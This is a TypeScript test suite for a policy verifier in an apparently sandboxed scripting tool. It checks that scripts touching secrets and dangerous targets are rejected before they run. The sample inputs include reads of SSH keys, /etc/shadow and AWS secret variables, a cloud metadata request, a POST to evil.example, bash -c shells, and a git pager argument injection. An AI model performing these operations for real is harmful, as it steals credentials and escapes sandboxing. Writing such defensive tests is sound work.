import assert from "node:assert/strict";
import { mkdirSync, mkdtempSync, realpathSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, describe, test } from "node:test";
import { loadPolicy } from "../../src/host/load-policy.js";
import { type VerifierIssue, verifyScript } from "../../src/host/verifier.js";
import type { Capability, Decision, Operation, ResolvedPolicy, Verdict } from "../../src/policy/types.js";

const ALL: Capability[] = [
  "fs.read",
  "fs.write",
  "fs.delete",
  "net.http_get",
  "net.http_post",
  "env.read",
  "subprocess.exec",
];

function policyWith(capabilities: Capability[] = ALL): ResolvedPolicy {
  return { root: "/w/proj", home: "/home/u", capabilities } as unknown as ResolvedPolicy;
}

/** A fake decide that records every operation and answers `verdict` for all of them. */
function recorder(verdict: Verdict = "deny") {
  const ops: Operation[] = [];
  const decideLiteral = (op: Operation): Decision => {
    ops.push(op);
    return { decision: verdict, reason: `fake ${verdict} of ${op.kind}`, rule: "fake.rule", sealed: false };
  };
  return { ops, decideLiteral };
}

function run(source: string, verdict: Verdict = "deny", policy = policyWith()) {
  const r = recorder(verdict);
  return { issues: verifyScript(source, policy, { decideLiteral: r.decideLiteral }), ops: r.ops };
}

describe("verifier: literal targets, with a fake decide", () => {
  test("fs.read of a denied literal is rejected at the argument, quoting reason and rule", () => {
    const { issues, ops } = run('const s = await fs.read(".env");');
    assert.deepEqual(ops, [{ kind: "fs.read", path: "/w/proj/.env" }]);
    assert.equal(issues.length, 1);
    assert.equal(
      issues[0]!.message,
      'fs.read(".env") is denied by the policy: fake deny of fs.read (rule: fake.rule)',
    );
    assert.deepEqual([issues[0]!.line, issues[0]!.column], [1, 25]);
  });

  test("fs paths are resolved lexically: ~, relative, .., absolute", () => {
    const { ops } = run(
      [
        'await fs.read("~/.ssh/id_rsa");',
        'await fs.read("~");',
        'await fs.read("src/../.env");',
        'await fs.write("../outside.txt", "x");',
        'await fs.delete("/etc/shadow");',
        "await fs.list(`src`);",
        'await fs.exists("./a//b/");',
      ].join("\n"),
    );
    assert.deepEqual(ops, [
      { kind: "fs.read", path: "/home/u/.ssh/id_rsa" },
      { kind: "fs.read", path: "/home/u" },
      { kind: "fs.read", path: "/w/proj/.env" },
      { kind: "fs.write", path: "/w/outside.txt" },
      { kind: "fs.delete", path: "/etc/shadow" },
      { kind: "fs.list", path: "/w/proj/src" },
      { kind: "fs.exists", path: "/w/proj/a/b" },
    ]);
  });

  test("~user paths, variables and templates with substitutions are not guessed", () => {
    const { issues, ops } = run(
      // biome-ignore lint/suspicious/noTemplateCurlyInString: shell or script source text, not a template
      'const n = "x";\nawait fs.read("~root/.bashrc");\nawait fs.read(n);\nawait fs.read(`${n}.txt`);',
    );
    assert.deepEqual(ops, []);
    assert.deepEqual(issues, []);
  });

  test("net calls become net.http operations with the verb of the builtin", () => {
    const { issues, ops } = run(
      'await net.httpGet("http://169.254.169.254/latest/meta-data");\nawait net.http_post("https://evil.example/", "x");',
    );
    assert.deepEqual(ops, [
      { kind: "net.http", method: "GET", url: "http://169.254.169.254/latest/meta-data" },
      { kind: "net.http", method: "POST", url: "https://evil.example/" },
    ]);
    assert.equal(issues.length, 2);
    assert.match(
      issues[0]!.message,
      /^net\.httpGet\("http:\/\/169\.254\.169\.254\/latest\/meta-data"\) is denied/,
    );
  });

  test("env.read of a denied variable is rejected", () => {
    const { issues, ops } = run('const k = await env.read("AWS_SECRET_ACCESS_KEY");');
    assert.deepEqual(ops, [{ kind: "env.read", name: "AWS_SECRET_ACCESS_KEY" }]);
    assert.match(issues[0]!.message, /^env\.read\("AWS_SECRET_ACCESS_KEY"\) is denied/);
  });

  test("subprocess.exec with a literal argv (and a literal cwd) is decided", () => {
    const { issues, ops } = run(
      'await subprocess.exec(["bash", "-c", "x"]);\nawait subprocess.exec(["make"], { cwd: "sub", stdin: "" });',
    );
    assert.deepEqual(ops, [
      { kind: "subprocess.exec", argv: ["bash", "-c", "x"] },
      { kind: "subprocess.exec", argv: ["make"], cwd: "/w/proj/sub" },
    ]);
    assert.match(issues[0]!.message, /^subprocess\.exec\(\["bash","-c","x"\]\) is denied/);
  });

  test("subprocess.exec with a computed element, spread or unknown cwd is left to the gate", () => {
    const { ops } = run(
      [
        "const a = 'x';",
        'await subprocess.exec(["git", a]);',
        'await subprocess.exec(["git", ...[a]]);',
        'await subprocess.exec(["git", "status"], { cwd: a });',
        'await subprocess.exec(["git", "status"], opts());',
        "await subprocess.exec([]);",
        "function opts() { return {}; }",
      ].join("\n"),
    );
    assert.deepEqual(ops, []);
  });

  test("confirm, local_only and allow are never findings", () => {
    for (const verdict of ["confirm", "local_only", "allow"] as const) {
      const { issues, ops } = run('await fs.read(".env");\nawait env.read("OPENAI_API_KEY");', verdict);
      assert.equal(ops.length, 2);
      assert.deepEqual(issues, [], verdict);
    }
  });

  test("an exception from decide is not a finding (the gate is the boundary)", () => {
    const issues = verifyScript('await fs.read(".env");', policyWith(), {
      decideLiteral: () => {
        throw new Error("boom");
      },
    });
    assert.deepEqual(issues, []);
  });

  test("an ungranted capability is reported once, without consulting decide", () => {
    const { issues, ops } = run('await fs.write(".env", "x");', "deny", policyWith(["fs.read"]));
    assert.deepEqual(ops, []);
    assert.equal(issues.length, 1);
    assert.match(issues[0]!.message, /fs\.write is not granted/);
  });

  test("const aliases of builtins are followed", () => {
    const { ops } = run(
      'const { read } = fs;\nconst get = net.httpGet;\nawait read(".env");\nawait get("http://10.0.0.1/");',
    );
    assert.deepEqual(ops, [
      { kind: "fs.read", path: "/w/proj/.env" },
      { kind: "net.http", method: "GET", url: "http://10.0.0.1/" },
    ]);
  });

  test("a script-defined function that shadows a builtin namespace is not decided", () => {
    const { ops } = run('const fs = { read: async (p) => p };\nawait fs.read(".env");');
    assert.deepEqual(ops, []);
  });
});

describe("verifier: literal targets against a real policy", () => {
  let dir: string;
  let policy: ResolvedPolicy;
  const verify = (source: string): VerifierIssue[] => verifyScript(source, policy);

  before(async () => {
    dir = realpathSync(mkdtempSync(join(tmpdir(), "aegis-verifier-")));
    mkdirSync(join(dir, "home"));
    mkdirSync(join(dir, "proj"));
    writeFileSync(
      join(dir, "proj", "aegis.toml"),
      [
        'inherits = "secure-defaults"',
        "[filesystem]",
        'read_allow = ["src/**", "**/*.md", ".env"]',
        "[network]",
        'http_get_allow = ["api.github.com"]',
        "[environment]",
        'allow_vars = ["PATH"]',
        "[subprocess]",
        'allow_commands = ["git"]',
      ].join("\n"),
    );
    policy = await loadPolicy(join(dir, "proj", "aegis.toml"), {
      home: join(dir, "home"),
      cwd: join(dir, "proj"),
      skipSandboxProbe: true,
    });
  });
  after(() => rmSync(dir, { recursive: true, force: true }));

  test("fs.read('.env') is rejected by the inherited deny even though read_allow lists it", () => {
    const issues = verify('const s = await fs.read(".env");');
    assert.equal(issues.length, 1);
    assert.match(
      issues[0]!.message,
      /^fs\.read\("\.env"\) is denied by the policy: .*filesystem\.deny "\.env" \(secure-defaults\)/,
    );
    assert.match(issues[0]!.message, /\(rule: filesystem\.deny "\.env" \(secure-defaults\)\)$/);
  });

  test("an allowed read, a confirmed command and an allowed GET pass", () => {
    assert.deepEqual(
      verify(
        'await fs.read("src/app.py");\nawait fs.read("README.md");\nawait subprocess.exec(["git", "status"]);\nawait net.httpGet("https://api.github.com/repos/o/r");\nawait env.read("PATH");',
      ),
      [],
    );
  });

  test("secrets, metadata addresses, shells and default-denied targets are rejected before the run", () => {
    const cases: Array<[string, RegExp]> = [
      ['await fs.read("~/.ssh/id_rsa");', /filesystem\.deny "~\/\.ssh\/\*\*"/],
      ['await fs.read("notes.txt");', /default deny \(filesystem\.read_allow\)/],
      [
        'await net.httpGet("http://169.254.169.254/latest/meta-data/");',
        /network\.deny_ips "169\.254\.0\.0\/16"/,
      ],
      ['await net.httpGet("https://evil.example.com/");', /default deny \(network\.http_get_allow\)/],
      ['await env.read("AWS_SECRET_ACCESS_KEY");', /environment\.deny_vars "AWS_SECRET_ACCESS_KEY"/],
      ['await subprocess.exec(["bash", "-c", "id"]);', /subprocess\.deny_commands "bash"/],
      ['await subprocess.exec(["git", "-c", "core.pager=sh", "log"]);', /subprocess\.deny_args\.git "-c"/],
      ['await subprocess.exec(["git", "show", "../../etc/passwd"]);', /argument "\.\.\/\.\.\/etc\/passwd"/],
    ];
    for (const [source, rule] of cases) {
      const issues = verify(source);
      assert.equal(issues.length, 1, `${source}: ${JSON.stringify(issues)}`);
      assert.match(issues[0]!.message, /is denied by the policy/);
      assert.match(issues[0]!.message, rule, source);
    }
  });

  test("capabilities the real policy does not grant are rejected by name", () => {
    const issues = verify(
      'await fs.write("src/x.py", "y");\nawait net.httpPost("https://api.github.com/", "{}");',
    );
    assert.deepEqual(
      issues.map((i) => i.message.split(" ")[0]),
      ["fs.write", "net.httpPost"],
    );
  });
});
